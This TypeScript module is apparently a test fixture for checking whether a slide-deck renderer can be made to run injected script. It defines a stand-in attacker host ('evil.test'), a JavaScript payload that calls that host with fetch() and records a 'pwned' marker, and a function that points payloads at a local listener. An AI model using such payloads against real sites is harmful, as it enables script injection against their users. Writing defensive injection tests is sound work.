/** A deck that would run a program or send word to another host, by name. */
export interface Attack {
  readonly name: string;
  /** The slide's Markdown, behind a first slide. */
  readonly slide?: string;
  /** Lines of the front matter. */
  readonly front?: string;
  /** Files beside the deck's text. */
  readonly files?: Readonly<Record<string, string>>;
  /** What a careless program would make of it, where the slide itself is no markup. */
  readonly made?: string;
}

/** Stands for the address of another host, and `NAME` for the attack's name, until the attack is aimed. */
export const EVIL = 'http://evil.test/';
/** Leaves the attack's name at the other host, and at the page; without a space, for attributes without quotes. */
export const RUN = `fetch('${EVIL}');(top.pwned||=[]).push('NAME')`;

/** An attack with its name in it, against a host that listens: `127.0.0.1:40001`. */
export function aim({ name, slide, front, files, made }: Attack, host: string): Attack {
  const aimed = (text: string) => text.replaceAll('NAME', name).replace(/evil\.test\/?/g, `${host}/${name}/`);
  return {
    name,
    ...(slide === undefined ? {} : { slide: aimed(slide) }),
    ...(front === undefined ? {} : { front: aimed(front) }),
    ...(made === undefined ? {} : { made: aimed(made) }),
    ...(files && {
      files: Object.fromEntries(Object.entries(files).map(([path, text]) => [aimed(path), aimed(text)])),
    }),
  };
}
